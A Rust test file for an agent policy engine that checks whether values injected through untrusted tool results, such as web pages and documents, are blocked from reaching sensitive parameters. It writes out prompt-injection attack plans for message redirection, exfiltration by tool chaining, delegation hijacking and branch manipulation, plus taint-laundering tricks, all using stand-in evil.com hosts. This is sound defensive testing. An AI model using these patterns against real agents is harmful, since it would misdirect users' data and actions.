//! Prompt-injection attacks as tests: an injected value must fail to reach a sensitive
//! parameter — under the built-in rule, under the YAML rules alone and under the Rego policy
//! alone — while benign plans still run. Laundering tricks stay blocked.

use bactrian_engine::{Engine, InProcessTools, ParamSpec, RunReport, ToolSpec};
use bactrian_policy::{PolicySet, Verdict};
use serde_json::json;
use std::sync::{Arc, Mutex};

/// Which policy does the work in a test.
#[derive(Clone, Copy, Debug)]
enum Policy {
    Builtin,
    Yaml,
    Rego,
}

const ALL: [Policy; 3] = [Policy::Builtin, Policy::Yaml, Policy::Rego];

/// The seed agent's tools. Under `Builtin` the specs mark the sensitive parameters; under
/// `Yaml`/`Rego` they do not, so only the policy file can stop the attack. Every call that
/// really runs is logged in `ran`.
fn agent(policy: Policy, ran: Arc<Mutex<Vec<String>>>) -> Engine<InProcessTools> {
    let mark = |p: ParamSpec| {
        if matches!(policy, Policy::Builtin) {
            p.sensitive()
        } else {
            p
        }
    };
    let web = json!({
        "title": "Market news",
        "contact": "attacker@evil.com",
        "project_id": "666",
        "agent": "rogue-agent",
        "branch": "main-backdoor",
        "url": "https://evil.example/doc",
        "items": ["a", "b", "c"],
        "echo": "bob@example.com"
    });
    let log = |name: &'static str, ran: &Arc<Mutex<Vec<String>>>| {
        let ran = ran.clone();
        move |_: &serde_json::Map<String, serde_json::Value>| {
            ran.lock().map(|mut r| r.push(name.to_string())).ok();
            Ok(json!({"ok": true, "reply_to": "exfil@evil.com"}))
        }
    };
    let tools = InProcessTools::new()
        .tool(
            ToolSpec::new("web_search").param(ParamSpec::new("query")),
            move |_| Ok(web.clone()),
        )
        .tool(
            ToolSpec::new("read_document").param(ParamSpec::new("url")),
            log("read_document", &ran),
        )
        .tool(
            ToolSpec::new("send_message")
                .param(mark(ParamSpec::new("to")).recipient())
                .param(ParamSpec::new("content")),
            log("send_message", &ran),
        )
        .tool(
            ToolSpec::new("commit_files")
                .param(mark(ParamSpec::new("project_id")))
                .param(mark(ParamSpec::new("file_path")))
                .param(ParamSpec::new("content")),
            log("commit_files", &ran),
        )
        .tool(
            ToolSpec::new("create_branch")
                .param(mark(ParamSpec::new("project_id")))
                .param(mark(ParamSpec::new("branch_name"))),
            log("create_branch", &ran),
        )
        .tool(
            ToolSpec::new("create_mr")
                .param(mark(ParamSpec::new("project_id")))
                .param(ParamSpec::new("source_branch"))
                .param(mark(ParamSpec::new("target_branch")))
                .param(ParamSpec::new("title")),
            log("create_mr", &ran),
        )
        .tool(
            ToolSpec::new("delegate_task")
                .param(mark(ParamSpec::new("target_agent")))
                .param(ParamSpec::new("task")),
            log("delegate_task", &ran),
        );
    let mut engine = Engine::new(tools);
    engine.agent = "news-reporter".into();
    engine.policies = match policy {
        Policy::Builtin => PolicySet::new(),
        Policy::Yaml | Policy::Rego => {
            let file = if matches!(policy, Policy::Yaml) {
                "routing.yaml"
            } else {
                "routing.rego"
            };
            let path = format!("{}/examples/policies/{file}", env!("CARGO_MANIFEST_DIR"));
            let mut set = PolicySet::load(&[path]).expect("example policy loads");
            set.set_builtin_rules(false);
            set
        }
    };
    engine
}

const QUERY: &str =
    "Summarise today's market news for bob@example.com and commit it to project 149";

fn run(policy: Policy, plan: &str) -> (RunReport, Vec<String>) {
    let ran = Arc::new(Mutex::new(Vec::new()));
    let mut engine = agent(policy, ran.clone());
    let report = engine.run("plan.py", plan, QUERY);
    let ran = ran.lock().map(|r| r.clone()).unwrap_or_default();
    (report, ran)
}

/// Asserts the plan ends with a policy violation and `tool` never ran.
fn assert_blocked(plan: &str, tool: &str) {
    for policy in ALL {
        let (report, ran) = run(policy, plan);
        let error = report.outcome.error.as_ref();
        assert_eq!(
            error.map(|e| e.type_name.as_str()),
            Some("PolicyViolation"),
            "{policy:?}: expected a policy violation for\n{plan}\ngot {error:?}"
        );
        assert!(
            !ran.contains(&tool.to_string()),
            "{policy:?}: {tool} ran: {ran:?}"
        );
        let denied = report
            .tool_calls
            .last()
            .expect("the denied call is recorded");
        assert_eq!(
            (denied.tool.as_str(), denied.decision),
            (tool, Verdict::Deny),
            "{policy:?}"
        );
    }
}

/// Asserts the plan finishes and `tool` ran.
fn assert_allowed(plan: &str, tool: &str) {
    for policy in ALL {
        let (report, ran) = run(policy, plan);
        assert!(
            report.outcome.error.is_none(),
            "{policy:?}: {:?}",
            report.outcome.error
        );
        assert!(
            ran.contains(&tool.to_string()),
            "{policy:?}: {tool} did not run: {ran:?}"
        );
    }
}

// ---- the five attacks ----

#[test]
fn message_redirect_is_blocked() {
    assert_blocked(
        "r = web_search('market news')\nsend_message(r['contact'], r['title'])\n",
        "send_message",
    );
}

#[test]
fn commit_to_another_project_is_blocked() {
    assert_blocked(
        "r = web_search('market news')\ncommit_files(r['project_id'], 'news.md', r['title'])\n",
        "commit_files",
    );
}

#[test]
fn delegation_hijack_is_blocked() {
    assert_blocked(
        "r = web_search('x')\ndelegate_task(target_agent=r['agent'], task='summarise')\n",
        "delegate_task",
    );
}

#[test]
fn branch_manipulation_is_blocked() {
    assert_blocked(
        "r = web_search('x')\ncreate_mr('149', 'news', r['branch'], 'Daily news')\n",
        "create_mr",
    );
    assert_blocked(
        "r = web_search('x')\ncreate_branch('149', r['branch'])\n",
        "create_branch",
    );
}

#[test]
fn exfiltration_by_tool_chaining_is_blocked() {
    let plan = "r = web_search('x')\ndoc = read_document(r['url'])\nsend_message(doc['reply_to'], 'the report')\n";
    assert_blocked(plan, "send_message");
    // The denial names the source the recipient came from.
    let (report, _) = run(Policy::Builtin, plan);
    let message = &report.outcome.error.as_ref().expect("denied").message;
    assert!(message.contains("read_document (call c2)"), "{message}");
}

// ---- benign variants ----

#[test]
fn a_literal_recipient_is_allowed() {
    assert_allowed(
        "r = web_search('x')\nsend_message('bob@example.com', r['title'])\n",
        "send_message",
    );
}

#[test]
fn an_untrusted_value_equal_to_a_user_value_is_allowed() {
    // The web page happens to name the user's own recipient: the user gave that value.
    assert_allowed(
        "r = web_search('x')\nsend_message(r['echo'], 'hello')\n",
        "send_message",
    );
}

#[test]
fn untrusted_text_in_the_body_is_allowed() {
    assert_allowed(
        "r = web_search('x')\nbody = f\"News: {r['title']} ({len(r['items'])} items)\"\nsend_message(to='bob@example.com', content=body)\ncommit_files('149', 'news.md', body)\n",
        "commit_files",
    );
}

// ---- laundering attempts: every one stays blocked ----

fn laundering(recipient_expr_setup: &str) {
    let plan = format!("r = web_search('x')\n{recipient_expr_setup}\nsend_message(to, 'hi')\n");
    assert_blocked(&plan, "send_message");
}

#[test]
fn concatenation_does_not_launder() {
    laundering("to = '' + r['contact'] + ''");
}

#[test]
fn f_strings_do_not_launder() {
    laundering("to = f\"{r['contact']}\"");
}

#[test]
fn str_methods_do_not_launder() {
    laundering("to = r['contact'].strip().lower().replace('evil', 'evil')");
}

#[test]
fn dict_keys_do_not_launder() {
    laundering("d = {r['contact']: 1}\nfor k in d:\n    to = k");
}

#[test]
fn iterating_over_characters_does_not_launder() {
    laundering("to = ''.join([c for c in r['contact']])");
}

#[test]
fn wrapping_in_containers_does_not_launder() {
    laundering("box = {'to': [r['contact']]}\nto = box['to'][0]");
    laundering("lst = []\nlst.append(r['contact'])\nto = lst[0]");
}

#[test]
fn len_of_untrusted_data_does_not_launder() {
    assert_blocked(
        "r = web_search('x')\ncommit_files(len(r['items']), 'news.md', 'x')\n",
        "commit_files",
    );
}

#[test]
fn exception_messages_do_not_launder() {
    laundering(
        "try:\n    raise ValueError(r['contact'])\nexcept ValueError as e:\n    to = str(e)",
    );
}

#[test]
fn a_branch_on_untrusted_data_does_not_choose_the_recipient() {
    laundering("if 'evil' in r['contact']:\n    to = 'alice@example.com'\nelse:\n    to = 'carol@example.com'");
}

#[test]
fn positional_and_keyword_arguments_are_judged_alike() {
    assert_blocked(
        "r = web_search('x')\nsend_message(r['contact'], 'hi')\n",
        "send_message",
    );
    assert_blocked(
        "r = web_search('x')\nsend_message(content='hi', to=r['contact'])\n",
        "send_message",
    );
}

#[test]
fn a_plan_cannot_catch_the_violation_and_try_again() {
    for handler in ["except Exception:", "except:", "except BaseException:"] {
        let plan = format!(
            "r = web_search('x')\ntry:\n    send_message(r['contact'], 'first')\n{handler}\n    send_message('bob@example.com', 'second')\nprint('after')\n"
        );
        let (report, ran) = run(Policy::Builtin, &plan);
        assert_eq!(
            report.outcome.error.as_ref().map(|e| e.type_name.as_str()),
            Some("PolicyViolation")
        );
        assert!(ran.is_empty(), "{handler}: {ran:?}");
        assert_eq!(
            report.tool_calls.len(),
            2,
            "{handler}: the run ended at the denial"
        );
        assert_eq!(report.outcome.stdout, "");
    }
}

#[test]
fn an_argument_the_tool_does_not_declare_is_an_error() {
    let (report, ran) = run(
        Policy::Builtin,
        "send_message('bob@example.com', 'hi', bcc='x@evil.com')\n",
    );
    let error = report.outcome.error.expect("an error");
    assert_eq!(error.type_name, "TypeError");
    assert!(error.message.contains("bcc"), "{}", error.message);
    assert!(ran.is_empty());
}
